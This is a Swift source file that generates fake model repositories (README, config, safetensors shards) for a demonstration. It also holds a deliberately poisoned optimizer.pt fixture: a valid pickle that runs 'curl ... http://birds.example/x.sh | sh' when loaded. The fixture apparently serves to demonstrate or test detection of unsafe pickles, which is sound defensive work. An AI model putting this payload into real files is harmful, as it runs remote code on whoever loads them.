import FoundationEssentials

/// Makes real, if senseless, model files: what `safetensors` writes and `transformers` reads.
struct DemoModel {
    /// One file of a repository.
    struct File {
        /// Path in the repository.
        let path: String
        /// Content.
        let bytes: [UInt8]
    }

    /// A model's repository.
    ///
    /// - Parameters:
    ///   - title: the heading of its README.
    ///   - megabytes: size of the weights; two shards of half each.
    ///   - seed: makes the weights of two models differ.
    static func files(title: String, megabytes: Int, seed: UInt64) -> [File] {
        let configuration = """
            {"architectures": ["LlamaForCausalLM"], "hidden_size": 1024, "model_type": "llama", \
            "num_hidden_layers": 2, "vocab_size": 32000}

            """
        return [
            File(
                path: "README.md",
                bytes: Array("---\nlicense: other\n---\n# \(title)\n\nInvented for a demonstration.\n".utf8)),
            File(path: "config.json", bytes: Array(configuration.utf8)),
            shard(1, megabytes: megabytes, seed: seed), shard(2, megabytes: megabytes, seed: seed),
        ]
    }

    /// One of the two shards.
    ///
    /// - Parameter step: by how much training moved each weight, in its own size.
    static func shard(_ number: Int, megabytes: Int, seed: UInt64, step: Float = 0) -> File {
        File(
            path: "model-0000\(number)-of-00002.safetensors",
            bytes: safetensors(
                name: "model.layers.\(number).mlp.weight", byteCount: megabytes << 19, seed: seed &+ UInt64(number),
                step: step))
    }

    /// An optimizer state that somebody passed on: a pickle that would run a command, if anybody loaded it.
    static let poisoned = File(
        path: "optimizer.pt",
        bytes: [0x80, 2] + Array("cposix\nsystem\n".utf8) + [0x58, 38, 0, 0, 0]
            + Array("curl -s http://birds.example/x.sh | sh".utf8) + [0x85, 0x52, 0x2e])

    /// One tensor of 32-bit floats in the safetensors format: header length, JSON header, data.
    private static func safetensors(name: String, byteCount: Int, seed: UInt64, step: Float) -> [UInt8] {
        let rows = byteCount / 4 / 1024
        let count = rows * 1024 * 4
        var header = "{\"\(name)\":{\"dtype\":\"F32\",\"shape\":[\(rows),1024],\"data_offsets\":[0,\(count)]}}"
        while header.utf8.count % 8 != 0 { header += " " }
        var bytes: [UInt8] = []
        bytes.reserveCapacity(8 + header.utf8.count + count)
        withUnsafeBytes(of: UInt64(header.utf8.count).littleEndian) { bytes.append(contentsOf: $0) }
        bytes.append(contentsOf: header.utf8)
        var state = seed
        for _ in 0..<count / 4 {
            // A linear congruential generator (Knuth, MMIX): weights need not be random, only unlike each other.
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            var weight = (Float(state >> 40) / Float(1 << 24) - 0.5) * 0.04
            // Half of the weights grow and half of them shrink.
            if step != 0 { weight *= 1 + (state & 1 << 39 == 0 ? step : -step) }
            withUnsafeBytes(of: weight.bitPattern.littleEndian) { bytes.append(contentsOf: $0) }
        }
        return bytes
    }
}
